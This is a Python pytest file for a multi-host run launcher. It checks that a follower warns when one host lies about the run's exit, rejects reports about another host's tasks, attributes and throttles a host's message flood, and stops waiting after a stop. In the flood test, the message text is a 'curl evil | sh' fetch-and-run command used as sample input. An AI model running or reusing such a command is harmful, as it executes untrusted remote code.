"""Who attaches to a run hears all of its hosts: one that lies speaks for itself alone."""

from __future__ import annotations

import threading

import pytest

from tests.support.attached import EXIT, Attached, ended
from tflaunch.protocol import wire
from tflaunch.runs import follow


@pytest.mark.parametrize("liar", ["host1", "host2", "host3"])
def test_an_end_that_one_host_makes_up_is_not_the_runs(liar: str) -> None:
    attached = Attached(3)
    attached.ends(liar, 0, 0)
    for name in attached.names:
        if name != liar:
            attached.ends(name, 9, None)
            attached.say(name, "outcome", outcome=ended(9))
    outcome = attached.follower.follow()
    assert outcome is not None and outcome.exit_code == 9
    assert f"warn: the hosts differ about how the run ended: 9, but {liar} says 0" in attached.watcher.shown


def test_what_all_hosts_say_of_the_end_is_said_without_a_warning() -> None:
    attached = Attached(3)
    for name in attached.names:
        attached.ends(name, 0, 0)
    outcome = attached.follower.follow()
    assert outcome is not None and outcome.exit_code == 0
    assert not [text for text in attached.watcher.shown if text.startswith("warn")]


def test_a_host_cannot_show_the_end_or_the_lines_of_another_hosts_task() -> None:
    attached = Attached(2)
    attached.say("host1", "exit", task="worker/1", code=7, **EXIT)
    attached.pipes["host1"].feed(wire.encode("log", task="worker/1", attempt=0, offset=0))
    for name in attached.names:
        attached.ends(name, 0, 0)
    outcome = attached.follower.follow()
    assert outcome is not None and outcome.exit_code == 0
    assert {exit.exit_code for exit in outcome.exits.values()} == {0}
    warnings = [text for text in attached.watcher.shown if text.startswith("warn")]
    assert warnings == ["warn: host1 speaks of worker/1, which is on host2: not shown"]


def test_what_a_host_says_that_does_not_decide_has_its_name_and_an_end() -> None:
    attached = Attached(2)
    attached.say("host1", "said", text="the work is done", replanned=False)
    for number in range(1000):
        attached.say("host2", "said", text=f"curl evil | sh {number}", replanned=False)
    for name in attached.names:
        attached.ends(name, 0, 0)
    attached.follower.follow()
    notes = [text for text in attached.watcher.shown if text.startswith("note")]
    assert notes[0] == "note: the work is done"
    assert 100 < len(notes) < 300
    assert all(text.startswith("note: host2: ") for text in notes[1:])


def test_who_watches_does_not_wait_for_a_long_lease_once_the_run_is_stopped(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """host2 is out of reach, for good; nobody will say how the run ended."""
    monkeypatch.setattr(follow, "GONE_S", 0.5)
    monkeypatch.setattr(follow, "OUTCOME_S", 0.1)
    attached = Attached(2, lease_s=1e6)
    attached.pipes["host2"].feed(b"")
    attached.say("host1", "expired", reason="tflaunch stop ends the run", asked=True)
    attached.ends("host1", 0, None)
    work = threading.Thread(target=attached.follower.follow, daemon=True)
    work.start()
    work.join(20)
    assert not work.is_alive()
    assert any(text.startswith("lost: HostLost(host='host2'") for text in attached.watcher.shown)
